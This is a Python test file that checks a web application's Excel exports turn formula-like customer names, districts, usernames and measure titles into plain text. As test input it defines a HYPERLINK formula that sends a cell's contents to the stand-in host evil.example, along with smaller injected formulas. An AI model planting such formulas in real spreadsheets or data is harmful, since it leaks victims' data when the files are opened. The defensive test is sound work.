"""Formula injection (issue 15, item 5): a customer name, a district, a username and a measure
title that a spreadsheet would run as a formula come out of every workbook as text.

The data goes in through the real import, the real plan services and the real pages; each
workbook is read back with openpyxl."""

from __future__ import annotations

import tempfile
from datetime import date, timedelta
from io import BytesIO
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select

from tests.pages import login
from winback import clock
from winback.accounts import service as accounts
from winback.accounts.models import Role
from winback.actor import Actor
from winback.customers import imports
from winback.cycles.models import MonthlyCycle
from winback.evaluation import service as evaluation
from winback.plans import service as plans
from winback.spreadsheet import FORMULA_STARTS, safe_cell
from winback.surveys.models import ReasonArea, SurveyTask

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def _cells(body: bytes) -> list:
    wb = load_workbook(BytesIO(body))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _as_text(cells: list, written: str) -> list:
    """The cells that begin with ``written``: each must be text with the leading ' (never a formula)."""
    found = [c for c in cells if isinstance(c.value, str) and c.value.lstrip("'").startswith(written)]
    for c in found:
        assert c.data_type == "s" and c.value.startswith("'"), (c.coordinate, c.value, c.data_type)
    return found


def _no_formula(cells: list) -> None:
    live = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not live, live
    text = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    assert not text, text


def test_the_helper():
    for start in FORMULA_STARTS:
        assert safe_cell(start + "1") == "'" + start + "1"
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert safe_cell("张伟") == "张伟" and safe_cell(date(2026, 1, 2)) == date(2026, 1, 2)


def test_every_workbook_keeps_formulas_as_text(session, planning_cycle, staff, client):
    admin, manager = staff("admin"), staff("manager")
    # the import: target customers' district becomes a formula (profile.xlsx); a name too long
    # to keep is a row error whose value is a formula (errors.xlsx)
    tasks = list(session.scalars(select(SurveyTask).where(SurveyTask.cycle_id == planning_cycle).limit(5)))
    lines = ["客户编号,客户姓名,手机,区县"]
    lines += [
        f"{t.target.customer.dms_code},{t.target.customer.name},{t.target.customer.phone or ''},+1区"
        for t in tasks
    ]
    long_link = LINK.replace("点击", "点" * 130)
    lines.append(f'X1,"{long_link.replace(chr(34), chr(34) * 2)}",13800138000,')
    path = Path(tempfile.mkdtemp()) / "customers.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    batch, _ = imports.import_file(
        session=session, store_id=admin.store_id, kind="customers", source=path, actor=Actor.person(admin)
    )
    # a username that is a formula shows in the audit export's actor column
    odd = accounts.create_staff(
        session=session,
        store_id=admin.store_id,
        username="@SUM(1+1)",
        display_name="odd",
        password="odd-person-pw",
        roles=[Role.advisor],
        actor=Actor.person(admin),
    )
    accounts.set_language(session=session, staff=odd, locale="en")
    # a measure titled "+1", evaluated three months later (the evaluation workbook)
    plan = plans.current_plan(session=session, cycle_id=planning_cycle)
    plans.add_measure(
        session=session,
        plan_id=plan.id,
        actor_staff=manager,
        title="+1",
        area=list(ReasonArea)[0],
        owner_id=manager.id,
        due_date=clock.today() + timedelta(days=20),
    )
    plans.submit_plan(session=session, plan_id=plan.id, actor_staff=manager)
    plans.decide_plan(session=session, plan_id=plan.id, approve=True, comment="同意", actor_staff=manager)
    plans.execute_plan(session=session, cycle_id=planning_cycle, actor=Actor.system())
    cycle = session.get(MonthlyCycle, planning_cycle)
    session.commit()
    clock.set_now(cycle.evaluation_due_at + timedelta(hours=1))
    evaluation.evaluate_cycle(session=session, cycle_id=planning_cycle, actor=Actor.system())
    session.commit()

    login(client, "admin")
    workbooks = {
        "errors.xlsx": client.get(f"/api/imports/{batch.id}/errors.xlsx"),
        "errors.xlsx (page)": client.get(f"/archive/imports/{batch.id}/errors.xlsx"),
        "profile.xlsx": client.get(f"/cycles/{planning_cycle}/profile.xlsx"),
        "audit export": client.get("/audit/export.xlsx"),
        "evaluation (page)": client.get(f"/cycles/{planning_cycle}/report.xlsx"),
        "evaluation (API)": client.get(f"/api/cycles/{planning_cycle}/evaluation.xlsx"),
    }
    cells = {}
    for name, r in workbooks.items():
        assert r.status_code == 200, (name, r.status_code)
        cells[name] = _cells(r.content)
        _no_formula(cells[name])
    for name in ("errors.xlsx", "errors.xlsx (page)"):
        assert _as_text(cells[name], "=HYPERLINK"), name
        assert any(isinstance(c.value, int) for c in cells[name])  # the row number stays a number
    assert _as_text(cells["profile.xlsx"], "+1区")
    assert _as_text(cells["audit export"], "@SUM(1+1)")
    for name in ("evaluation (page)", "evaluation (API)"):
        assert [c.value for c in cells[name] if c.value == "'+1"], name
        assert any(isinstance(c.value, (int, float)) and c.value != 0 for c in cells[name])
